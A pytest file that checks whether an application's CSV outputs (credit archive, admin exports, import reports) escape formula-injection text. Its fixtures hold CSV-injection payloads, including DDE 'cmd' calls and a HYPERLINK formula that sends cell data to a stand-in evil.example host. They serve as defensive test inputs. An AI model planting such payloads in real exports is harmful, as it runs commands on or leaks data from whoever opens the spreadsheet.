"""CSV formula injection (issue #12): a subject, matter, record or import row whose text starts like a
formula (=, +, -, @, TAB, CR) comes out of every CSV xinyipi writes as text, never as a formula:
the credit archive from the admin, the API and the CLI; Flask-Admin's export of every model view
(when a view enables it); the import reports. Each producer's output is scanned cell by cell."""
from __future__ import annotations

import csv
import datetime as _dt
import io

import pytest

from plugin.applications import service
from plugin.catalog.models import Matter
from plugin.credit.models import DishonestyRecord
from plugin.spreadsheet import FORMULA_STARTS, cell, to_csv
from tests.helpers import matter_with, new_subject, sign_in
from tests.portal.conftest import make_app

HOSTILE_NAME = '+cmd|\' /C calc\'!A0'
HOSTILE_MATTER = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
HOSTILE_REASONS = ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=2+2"]
HOSTILE_AUTHORITY = "=1+1"
TOKEN = "platform-token"


def scan(text: str, producer: str) -> list[str]:
    """Every cell of a CSV document; fails on any cell a spreadsheet would take for a formula."""
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    bad = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert not bad, (producer, bad)
    return cells


def test_cell_escapes_every_formula_start_and_nothing_else():
    for start in FORMULA_STARTS:
        assert cell(f"{start}1+1") == f"'{start}1+1"
    for fine in ("海口椰城餐饮管理有限公司", "2026-01-01", "91460100QJWYLF5568", "a=b", "", None, 12):
        assert cell(fine) == ("" if fine is None else str(fine))
    assert cell(-5) == "'-5"
    assert scan(to_csv(["a"], [["=x"], ["+y"]]), "to_csv") == ["a", "'=x", "'+y"]


@pytest.fixture
def hostile(seeded, database_url, tmp_path):
    """A subject with a hostile name and records, a case on a matter with a hostile name."""
    matter = matter_with("instant_approval", negative=False)
    Matter.update(name=HOSTILE_MATTER).where(Matter.id == matter.id).execute()
    subject = new_subject("red", seed=77, name=HOSTILE_NAME)
    service.apply(matter.code, subject.code)
    for i, reason in enumerate(HOSTILE_REASONS):
        DishonestyRecord.create(subject=subject, severity="一般", reason=reason, authority=HOSTILE_AUTHORITY,
                                start=_dt.date(2020, 1, 1), end=_dt.date(2021, 1, 1),
                                repaired_at=_dt.datetime(2021, 6, 1), fingerprint=f"hostile{i}")
    app = make_app(database_url, tmp_path, XINYIPI_API_TOKEN=TOKEN)
    return app, subject


def _expect_escaped(cells: list[str], producer: str, *texts: str):
    for text in texts:
        assert "'" + text in cells or any(c.startswith("'" + text) for c in cells), (producer, text)


def test_the_credit_archive_csv_is_safe_from_admin_api_and_cli(hostile, cli_runner, tmp_path):
    app, subject = hostile
    client = app.test_client()
    sign_in(client, "csv_supervisor", "supervisor")
    outputs = {
        "admin": client.get(f"/admin/xinyipi_credit_archive/{subject.code}/archive.csv").get_data(as_text=True),
        "api": app.test_client().get(f"/api/v1/subjects/{subject.code}/archive?format=csv",
                                     headers={"Authorization": f"Bearer {TOKEN}"}).get_data(as_text=True),
        "cli": cli_runner("archive", subject.code, "--format", "csv").stdout,
    }
    cli_runner("archive", subject.code, "--format", "csv", "-o", tmp_path / "a.csv")
    with open(tmp_path / "a.csv", encoding="utf-8", newline="") as f:
        outputs["cli file"] = f.read()
    for producer, text in outputs.items():
        cells = scan(text, producer)
        # the hostile texts are there, as text: the matter's name, the repaired records' reasons
        _expect_escaped(cells, producer, HOSTILE_MATTER, *HOSTILE_REASONS)


def test_every_admin_export_is_safe(hostile):
    app, subject = hostile
    admin = app.extensions["xinyipi"].admin
    client = app.test_client()
    sign_in(client)                                     # sysadmin: every view
    views = [v for v in admin._views if hasattr(v, "get_export_value")]
    assert len(views) >= 9
    seen = set()
    for view in views:
        view.can_export = True
        try:
            r = client.get(f"{view.url}/export/csv/")
        finally:
            view.can_export = False
        assert r.status_code == 200 and r.mimetype == "text/csv", (view.endpoint, r.status_code)
        seen.update(scan(r.get_data(as_text=True), view.endpoint))
    _expect_escaped(sorted(seen), "admin exports", HOSTILE_NAME, HOSTILE_MATTER, HOSTILE_AUTHORITY, *HOSTILE_REASONS)


def test_import_reports_are_safe(seeded, cli_runner, tmp_path):
    subjects = tmp_path / "subjects.csv"
    subjects.write_text("code,name,tier\n91460100QJWYLF5568,正常公司,red\n"
                        "91460100QJWYLF5568,=1+1,=HYPERLINK(\"http://evil.example\")\n"
                        "@SUM(1),名称,red\n", encoding="utf-8")
    records = tmp_path / "records.csv"
    records.write_text("code,severity,reason,authority,start,end\n"
                       "91460100QJWYLF5568,+cmd|' /C calc'!A0,理由,机关,2025-01-01,\n"
                       "91460100QJWYLF5568,严重,理由,机关,-2025-01-01,\n", encoding="utf-8")
    expected = {"import-subjects": ['=HYPERLINK("http://evil.example")', "@SUM(1)"],
                "import-dishonesty": ["+cmd|' /C calc'!A0", "-2025-01-01"]}
    for command, path in (("import-subjects", subjects), ("import-dishonesty", records)):
        report = tmp_path / f"{command}-report.csv"
        result = cli_runner(command, path, "--report", report)
        assert result.exit_code == 1
        with open(report, encoding="utf-8", newline="") as f:
            cells = scan(f.read(), command)
        # each bad row with the values as read, the hostile ones escaped
        _expect_escaped(cells, command, *expected[command])
